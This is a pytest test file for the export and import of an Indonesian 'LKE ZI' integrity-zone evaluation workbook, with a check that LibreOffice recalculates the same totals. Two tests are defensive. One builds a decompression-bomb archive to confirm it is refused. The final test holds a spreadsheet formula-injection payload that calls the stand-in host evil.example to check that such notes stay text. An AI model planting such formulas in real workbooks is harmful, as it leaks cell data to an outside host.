"""Export and import of the official "LKE ZI" workbook, recalculated by LibreOffice."""

from __future__ import annotations

import io
import random
import shutil
import subprocess
from decimal import Decimal as D
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from sizi.lke.instrument import InstrumentSpec, load_instrument
from sizi.lke.scoring import AnswerInput, score
from sizi.lke.workbook import COL, SHEET, EvidenceRef, export_workbook, import_workbook

SPEC = load_instrument()
SMALL = load_instrument(Path(__file__).parent / "data" / "small-instrument.yaml")
HASIL = {"ipak": D("3.55"), "ipkp": D("3.4"), "capaian_kinerja": "b"}


def random_answers(
    spec: InstrumentSpec, seed: int, skip: float = 0.15
) -> dict[str, AnswerInput]:
    rnd = random.Random(seed)
    answers: dict[str, AnswerInput] = {}
    for q in spec.questions:
        if rnd.random() < skip:
            continue
        if q.formula is not None:
            answers[q.code] = AnswerInput(
                inputs={i.code: D(rnd.randint(0, 6)) for i in q.inputs}
            )
        else:
            answers[q.code] = AnswerInput(rnd.choice(q.options).letter)
    return answers


def rows_by_code(ws: object) -> dict[str, int]:
    out: dict[str, int] = {}
    for row in ws.iter_rows(min_row=1):  # type: ignore[attr-defined]
        code = row[13].value
        if code:
            out[str(code)] = row[0].row
    return out


def test_export_has_the_official_columns_and_live_formulas() -> None:
    data = export_workbook(
        SPEC,
        {"P.1.i.a": AnswerInput("ya"), "P.1.i.b": AnswerInput("b")},
        HASIL,
        notes={"P.1.i.a": "SK tim sudah terbit"},
        evidence={
            "P.1.i.a": [EvidenceRef("SK Tim Kerja ZI", "https://contoh.go.id/sk.pdf")]
        },
        unit_name="KPU Kab. Tanjung Jabung Barat",
        year=2025,
    )
    wb = load_workbook(io.BytesIO(data))
    ws = wb[SHEET]
    header = [c.value for c in ws[5]]
    for label in (
        "Bobot",
        "Penjelasan",
        "Pilihan Jawaban",
        "Jawaban",
        "Nilai",
        "%",
        "Catatan",
        "Bukti Dukung",
        "Link",
    ):
        assert label in header
    rows = rows_by_code(ws)
    r = rows["P.1.i.a"]
    assert ws[f"{COL['answer']}{r}"].value == "Ya"
    assert ws[f"{COL['value']}{r}"].value.startswith("=IF(")
    assert ws[f"{COL['note']}{r}"].value == "SK tim sudah terbit"
    assert ws[f"{COL['link']}{r}"].hyperlink.target == "https://contoh.go.id/sk.pdf"
    assert ws[f"{COL['answer']}{rows['P.1.i.b']}"].value == "B"
    sub = rows["P.1.i"]
    assert ws[f"{COL['weight']}{sub}"].value == 0.5
    assert ws[f"{COL['value']}{sub}"].value.startswith("=(")
    assert ws["A3"].value == "Unit kerja: KPU Kab. Tanjung Jabung Barat"
    lists = {dv.formula1: str(dv.sqref) for dv in ws.data_validations.dataValidation}
    assert f"K{rows['P.1.i.b']}" in lists['"A,B,C"']
    assert f"K{rows['P.1.i.a']}" in lists['"Ya,Tidak"']
    assert wb.calculation.fullCalcOnLoad
    assert "Keterangan" in wb.sheetnames


@pytest.mark.parametrize(
    "spec", [SPEC, SMALL], ids=["permenpanrb-90-2021", "contoh-kecil"]
)
def test_export_then_import_gives_the_same_answers_and_score(
    spec: InstrumentSpec,
) -> None:
    answers = random_answers(spec, seed=7)
    hasil = HASIL if spec is SPEC else {"indeks": D("4.2"), "predikat": "c"}
    notes = {next(iter(answers)): "Catatan unit"}
    data = export_workbook(spec, answers, hasil, notes=notes)
    imported = import_workbook(data, spec)
    assert imported.ok, imported.errors
    assert imported.answers == answers
    assert {k: v for k, v in imported.hasil.items() if v is not None} == hasil
    assert imported.notes == notes
    assert set(imported.missing) == set()
    assert (
        score(spec, imported.answers, imported.hasil).total
        == score(spec, answers, hasil).total
    )


def test_import_finds_questions_by_hierarchy_and_text_not_rows() -> None:
    answers = random_answers(SPEC, seed=11, skip=0)
    data = export_workbook(SPEC, answers, HASIL)
    wb = load_workbook(io.BytesIO(data))
    ws = wb[SHEET]
    rows = rows_by_code(ws)
    # swap the rows of P.1.i.a and P.1.i.b, clear the Kode column, insert rows anywhere
    a, b = rows["P.1.i.a"], rows["P.1.i.b"]
    for col in range(1, 18):
        va, vb = ws.cell(a, col).value, ws.cell(b, col).value
        ws.cell(a, col).value, ws.cell(b, col).value = vb, va
    for row in ws.iter_rows(min_row=6):
        row[13].value = None
    ws.insert_rows(rows["P.3.ii"], 2)
    ws.cell(rows["P.3.ii"], 6).value = "Baris tambahan dari unit (bukan pertanyaan)"
    ws.insert_rows(2, 3)
    out = io.BytesIO()
    wb.save(out)
    imported = import_workbook(out.getvalue(), SPEC)
    assert imported.ok, imported.errors
    assert imported.answers == answers
    assert imported.cells["P.1.i.a"] == f"K{b + 3}"


def test_import_reports_unreadable_answers_with_their_cell() -> None:
    answers = random_answers(SPEC, seed=5, skip=0)
    data = export_workbook(SPEC, answers, HASIL)
    wb = load_workbook(io.BytesIO(data))
    ws = wb[SHEET]
    rows = rows_by_code(ws)
    k = COL["answer"]
    ws[f"{k}{rows['P.1.i.b']}"] = "F"
    ws[f"{k}{rows['R.4.i.-:jumlah_sasaran']}"] = "lima"
    ws[f"{k}{rows['H1.a']}"] = 4.5
    ws[f"{k}{rows['P.1.ii.a']}"] = "Y"  # read as "ya"
    ws[f"{k}{rows['P.1.ii.b']}"] = "a. Jika semua target-target prioritas relevan"
    out = io.BytesIO()
    wb.save(out)
    imported = import_workbook(out.getvalue(), SPEC)
    assert not imported.ok
    errors = {(e.cell, e.code): e.message for e in imported.errors}
    assert errors[(f"K{rows['P.1.i.b']}", "P.1.i.b")] == (
        "Jawaban 'F' untuk P.1.i.b tidak dapat dibaca (pilihan: A/B/C)."
    )
    assert errors[(f"K{rows['R.4.i.-:jumlah_sasaran']}", "R.4.i.-")].startswith(
        "Jumlah sasaran kinerja: 'lima'"
    )
    assert "harus angka 0–4" in errors[(f"K{rows['H1.a']}", "H1.a")]
    assert len(errors) == 3
    assert imported.answers["P.1.ii.a"] == AnswerInput("ya")
    assert imported.answers["P.1.ii.b"] == AnswerInput("a")


def test_import_reports_a_fractional_jumlah_with_its_cell() -> None:
    """A count with decimals is named by its cell, not refused later without one."""
    data = export_workbook(SPEC, random_answers(SPEC, seed=5, skip=0), HASIL)
    wb = load_workbook(io.BytesIO(data))
    ws = wb[SHEET]
    rows = rows_by_code(ws)
    cell = f"{COL['answer']}{rows['R.4.i.-:jumlah_sasaran']}"
    ws[cell] = 2.5
    out = io.BytesIO()
    wb.save(out)
    imported = import_workbook(out.getvalue(), SPEC)
    assert not imported.ok
    assert [(e.cell, e.code, e.message) for e in imported.errors] == [
        (cell, "R.4.i.-", "Jumlah sasaran kinerja: '2.5' bukan bilangan bulat.")
    ]


def _with_saved_value(data: bytes, formula: str, saved: str) -> bytes:
    """Add the value a spreadsheet program would save with `formula` (openpyxl cannot)."""
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename.startswith("xl/worksheets/"):
                content = content.replace(
                    f"<f>{formula}</f><v></v>".encode(),
                    f"<f>{formula}</f><v>{saved}</v>".encode(),
                )
            dst.writestr(info, content)
    return out.getvalue()


def test_import_reads_the_saved_value_of_a_formula_in_an_answer_cell() -> None:
    answers = random_answers(SPEC, seed=5, skip=0)
    wb = load_workbook(io.BytesIO(export_workbook(SPEC, answers, HASIL)))
    ws = wb[SHEET]
    rows = rows_by_code(ws)
    ws[f"{COL['answer']}{rows['R.4.i.-:jumlah_sasaran']}"] = "=4+4"
    ws[f"{COL['answer']}{rows['H1.a']}"] = "=3.5+0.1"
    out = io.BytesIO()
    wb.save(out)

    imported = import_workbook(
        _with_saved_value(
            _with_saved_value(out.getvalue(), "4+4", "8"), "3.5+0.1", "3.6"
        ),
        SPEC,
    )

    assert imported.ok, imported.errors
    assert imported.answers["R.4.i.-"].inputs["jumlah_sasaran"] == D(8)
    assert imported.hasil["ipak"] == D("3.6")


def test_import_rejects_other_files() -> None:
    assert (
        import_workbook(b"bukan excel", SPEC)
        .errors[0]
        .message.startswith("Berkas bukan lembar kerja Excel")
    )
    wb = Workbook()
    wb.active.title = "Lain"  # type: ignore[union-attr]
    out = io.BytesIO()
    wb.save(out)
    result = import_workbook(out.getvalue(), SPEC)
    assert not result.ok and "tidak ditemukan" in result.errors[0].message


# --------------------------------------------------------------------------- LibreOffice recalculation


def recalc(tmp_path: Path, files: dict[str, bytes]) -> dict[str, Path]:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip(
            "LibreOffice (soffice) tidak terpasang: perhitungan ulang tidak dapat diuji"
        )
    src = tmp_path / "src"
    src.mkdir()
    for name, data in files.items():
        (src / f"{name}.xlsx").write_bytes(data)
    out = tmp_path / "out"
    subprocess.run(  # noqa: S603
        [
            soffice,
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            *sorted(str(p) for p in src.iterdir()),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    return {name: out / f"{name}.xlsx" for name in files}


def test_libreoffice_recalculates_the_same_totals(tmp_path: Path) -> None:
    cases: dict[
        str, tuple[InstrumentSpec, dict[str, AnswerInput], dict[str, object]]
    ] = {
        "acak": (SPEC, random_answers(SPEC, seed=3), HASIL),
        "kosong": (SPEC, {}, {}),
        "lengkap": (
            SPEC,
            random_answers(SPEC, seed=4, skip=0),
            {"ipak": D(4), "ipkp": D("3.2"), "capaian_kinerja": "a"},
        ),
        "nol": (
            SPEC,
            {
                "R.5.ii.-": AnswerInput(
                    inputs={
                        "pengaduan_harus": D(0),
                        "pengaduan_diproses": D(0),
                        "pengaduan_selesai": D(0),
                    }
                ),
                "R.3.iii.a": AnswerInput(
                    inputs={
                        "pelanggaran_tahun_lalu": D(0),
                        "pelanggaran_tahun_ini": D(2),
                        "pelanggaran_disanksi": D(1),
                    }
                ),
                "R.1.i.a": AnswerInput(
                    inputs={"jumlah_agen": D(0), "perubahan_dibuat": D(0)}
                ),
                "P.1.i.b": AnswerInput("x"),  # invalid: unanswered in both
            },
            {"ipak": D("3.6")},
        ),
        "kecil": (
            SMALL,
            random_answers(SMALL, seed=9, skip=0.3),
            {"indeks": D("3.3"), "predikat": "b"},
        ),
    }
    exported = {
        name: export_workbook(spec, a, h) for name, (spec, a, h) in cases.items()
    }  # type: ignore[arg-type]
    results = recalc(tmp_path, exported)
    for name, (spec, answers, hasil) in cases.items():
        expected = score(spec, answers, hasil)  # type: ignore[arg-type]
        ws = load_workbook(results[name], data_only=True)[SHEET]
        rows = rows_by_code(ws)
        values: dict[str, float] = {}
        for row in ws.iter_rows(min_row=6):
            label = row[5].value
            if label in (
                "TOTAL PENGUNGKIT",
                "TOTAL HASIL",
                "NILAI EVALUASI ZONA INTEGRITAS",
            ):
                values[label] = row[11].value
        assert values["NILAI EVALUASI ZONA INTEGRITAS"] == pytest.approx(
            float(expected.total), abs=1e-9
        ), name
        assert values["TOTAL PENGUNGKIT"] == pytest.approx(
            float(expected.pengungkit), abs=1e-9
        ), name
        assert values["TOTAL HASIL"] == pytest.approx(
            float(expected.hasil), abs=1e-9
        ), name
        for sub in expected.sub_areas:
            cell = ws[f"{COL['value']}{rows[sub.code]}"].value
            assert cell == pytest.approx(float(sub.value), abs=1e-9), (name, sub.code)


def test_import_without_hierarchy_and_code_columns_uses_numbered_texts() -> None:
    answers = random_answers(SPEC, seed=12, skip=0.1)
    data = export_workbook(SPEC, answers, HASIL)
    wb = load_workbook(io.BytesIO(data))
    ws = wb[SHEET]
    numbering = {}
    for row in ws.iter_rows(min_row=6):
        hierarchy = [c.value for c in row[:5]]
        label = next((str(v) for v in reversed(hierarchy) if v not in (None, "")), "")
        numbering[row[0].row] = label
    for row_no, label in numbering.items():
        cell = ws.cell(row_no, 6)
        if label and cell.value and label not in ("A", "B"):
            cell.value = f"{label}. {cell.value}"
    ws.delete_cols(14)  # Kode
    ws.delete_cols(1, 5)  # hierarchy columns
    out = io.BytesIO()
    wb.save(out)
    imported = import_workbook(out.getvalue(), SPEC)
    assert imported.ok, imported.errors[:3]
    assert imported.answers == answers
    assert imported.missing == []


def test_percentage_typed_directly_is_reported() -> None:
    data = export_workbook(SPEC, {}, {})
    wb = load_workbook(io.BytesIO(data))
    ws = wb[SHEET]
    rows = rows_by_code(ws)
    ws[f"{COL['answer']}{rows['R.4.i.-']}"] = 0.8
    out = io.BytesIO()
    wb.save(out)
    imported = import_workbook(out.getvalue(), SPEC)
    assert [(e.cell, e.code) for e in imported.errors] == [
        (f"K{rows['R.4.i.-']}", "R.4.i.-")
    ]
    assert "isi baris Jumlah" in imported.errors[0].message


def test_import_refuses_a_workbook_that_unpacks_enormously() -> None:
    import io as _io
    import zipfile as _zipfile

    from sizi.lke.instrument import load_instrument
    from sizi.lke.workbook import import_workbook

    buffer = _io.BytesIO()
    with _zipfile.ZipFile(buffer, "w", _zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"<c>0</c>" * 2_000_000)

    result = import_workbook(buffer.getvalue(), load_instrument())

    assert result.ok is False
    assert "mengembang" in result.errors[0].message


def test_exported_notes_that_look_like_formulas_stay_text() -> None:
    import io as _io

    from openpyxl import load_workbook as _load

    from sizi.lke.instrument import load_instrument
    from sizi.lke.workbook import export_workbook

    spec = load_instrument()
    code = spec.questions[0].code
    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'

    data = export_workbook(spec, {}, {}, notes={code: evil})

    sheet = _load(_io.BytesIO(data))["LKE ZI"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == evil]
    assert [c.data_type for c in cells] == ["s"]
